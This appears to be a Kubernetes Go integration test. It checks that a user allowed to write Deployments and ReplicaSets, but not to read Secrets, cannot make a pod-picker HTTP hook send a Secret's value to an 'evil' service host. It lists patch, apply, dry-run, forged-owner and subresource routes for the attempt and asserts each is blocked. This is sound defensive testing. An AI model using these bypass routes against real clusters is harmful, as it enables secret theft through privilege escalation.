/*
Copyright 2026 The Kubernetes Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package downscalepodpicker

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	appsv1 "k8s.io/api/apps/v1"
	v1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/utils/ptr"
)

// A user who may write Deployments and ReplicaSets with all their subresources, but not read Secrets,
// tries to have the value of a Secret sent to a server of his.
func TestSecretsByDetours(t *testing.T) {
	c := newCluster(t, startAPIServer(t, true))
	ctx, user := t.Context(), "guest-"+c.Namespace
	c.grant(user, rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"*"}, Verbs: []string{"*"}})
	guest := c.ClientOf(user).AppsV1()
	deployments, replicaSets := guest.Deployments(c.Namespace), guest.ReplicaSets(c.Namespace)

	at := func(host string) *v1.DownscalePodPicker {
		return &v1.DownscalePodPicker{HTTP: &v1.HTTPDownscalePodPicker{Host: host, Port: intstr.FromInt32(80), HTTPHeaders: []v1.HTTPDownscalePodPickerHeader{{
			Name: "X-Token", ValueFrom: &v1.HTTPDownscalePodPickerHeaderSource{SecretKeyRef: &v1.SecretKeySelector{LocalObjectReference: v1.LocalObjectReference{Name: "token"}, Key: "token"}},
		}}}}
	}
	good, evil := at("good."+c.Namespace+".svc"), at("evil."+c.Namespace+".svc")
	owner, err := c.Client.AppsV1().Deployments(c.Namespace).Create(ctx, newDeployment(0, good), metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	plain := newDeployment(0, nil)
	plain.Name = "plain"
	if plain, err = deployments.Create(ctx, plain, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	newReplicaSet := func(name string, picker *v1.DownscalePodPicker, owners ...metav1.OwnerReference) *appsv1.ReplicaSet {
		return &appsv1.ReplicaSet{ObjectMeta: metav1.ObjectMeta{Name: name, OwnerReferences: owners}, Spec: appsv1.ReplicaSetSpec{
			Replicas: ptr.To[int32](0), Selector: owner.Spec.Selector, Template: owner.Spec.Template, DownscalePodPicker: picker,
		}}
	}
	controller := *metav1.NewControllerRef(owner, appsv1.SchemeGroupVersion.WithKind("Deployment"))
	if _, err = replicaSets.Create(ctx, newReplicaSet("inherits", good, controller), metav1.CreateOptions{}); err != nil {
		t.Errorf("what the Deployment has: %v", err)
	}
	patch := func(picker any) []byte {
		text, err := json.Marshal(map[string]any{"spec": map[string]any{"downscalePodPicker": picker}})
		if err != nil {
			t.Fatal(err)
		}
		return text
	}
	whole := func(d *appsv1.Deployment) []byte {
		d = d.DeepCopy()
		d.APIVersion, d.Kind, d.ManagedFields, d.ResourceVersion, d.UID = "apps/v1", "Deployment", nil, "", ""
		d.Spec.DownscalePodPicker = evil
		text, err := json.Marshal(d)
		if err != nil {
			t.Fatal(err)
		}
		return text
	}
	force := metav1.PatchOptions{FieldManager: "guest", Force: ptr.To(true)}
	forged := controller
	forged.UID = plain.UID
	for name, try := range map[string]func() error{
		"merge patch": func() error {
			_, err := deployments.Patch(ctx, "plain", types.MergePatchType, patch(evil), metav1.PatchOptions{})
			return err
		},
		"strategic patch": func() error {
			_, err := deployments.Patch(ctx, "plain", types.StrategicMergePatchType, patch(evil), metav1.PatchOptions{})
			return err
		},
		"JSON patch": func() error {
			text := fmt.Sprintf(`[{"op": "replace", "path": "/spec/downscalePodPicker/http/host", "value": %q}]`, evil.HTTP.Host)
			_, err := deployments.Patch(ctx, owner.Name, types.JSONPatchType, []byte(text), metav1.PatchOptions{})
			return err
		},
		"another key": func() error {
			text := `[{"op": "replace", "path": "/spec/downscalePodPicker/http/httpHeaders/0/valueFrom/secretKeyRef/key", "value": "b"}]`
			_, err := deployments.Patch(ctx, owner.Name, types.JSONPatchType, []byte(text), metav1.PatchOptions{})
			return err
		},
		"apply": func() error {
			_, err := deployments.Patch(ctx, "plain", types.ApplyPatchType, whole(plain), force)
			return err
		},
		"apply, to create": func() error {
			d := plain.DeepCopy()
			d.Name = "applied"
			_, err := deployments.Patch(ctx, "applied", types.ApplyPatchType, whole(d), force)
			return err
		},
		"dry run": func() error {
			_, err := deployments.Patch(ctx, "plain", types.MergePatchType, patch(evil), metav1.PatchOptions{DryRun: []string{"All"}})
			return err
		},
		"a ReplicaSet": func() error {
			_, err := replicaSets.Create(ctx, newReplicaSet("a", evil), metav1.CreateOptions{})
			return err
		},
		"a ReplicaSet of the Deployment": func() error {
			_, err := replicaSets.Create(ctx, newReplicaSet("b", evil, controller), metav1.CreateOptions{})
			return err
		},
		"a ReplicaSet of another Deployment": func() error {
			_, err := replicaSets.Create(ctx, newReplicaSet("c", good, forged), metav1.CreateOptions{})
			return err
		},
		"the ReplicaSet that inherits": func() error {
			_, err := replicaSets.Patch(ctx, "inherits", types.MergePatchType, patch(evil), metav1.PatchOptions{})
			return err
		},
	} {
		if err := try(); !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), `Secrets ["token"]`) {
			t.Errorf("%s: %v, want that it is forbidden", name, err)
		}
	}
	// Subresources do not change the picker.
	for name, try := range map[string]func() error{
		"status patch": func() error {
			_, err := deployments.Patch(ctx, "plain", types.MergePatchType, patch(evil), metav1.PatchOptions{}, "status")
			return err
		},
		"status apply": func() error {
			_, err := deployments.Patch(ctx, "plain", types.ApplyPatchType, whole(plain), force, "status")
			return err
		},
		"scale patch": func() error {
			_, err := deployments.Patch(ctx, "plain", types.MergePatchType, patch(evil), metav1.PatchOptions{}, "scale")
			return err
		},
		"status of the ReplicaSet": func() error {
			_, err := replicaSets.Patch(ctx, "inherits", types.MergePatchType, patch(evil), metav1.PatchOptions{}, "status")
			return err
		},
	} {
		t.Logf("%s: %v", name, try())
	}
	ds, err := deployments.List(ctx, metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	rss, err := replicaSets.List(ctx, metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if hosts := fmt.Sprint(hosts(ds, rss)); strings.Contains(hosts, evil.HTTP.Host) {
		t.Errorf("a picker of the guest is stored: %s", hosts)
	}
	if len(ds.Items) != 2 || len(rss.Items) != 1 {
		t.Errorf("%d Deployments and %d ReplicaSets, want 2 and 1", len(ds.Items), len(rss.Items))
	}
}

// hosts returns the hosts of all pickers.
func hosts(ds *appsv1.DeploymentList, rss *appsv1.ReplicaSetList) (hosts []string) {
	for _, d := range ds.Items {
		if d.Spec.DownscalePodPicker != nil {
			hosts = append(hosts, d.Spec.DownscalePodPicker.HTTP.Host)
		}
	}
	for _, rs := range rss.Items {
		if rs.Spec.DownscalePodPicker != nil {
			hosts = append(hosts, rs.Spec.DownscalePodPicker.HTTP.Host)
		}
	}
	return hosts
}
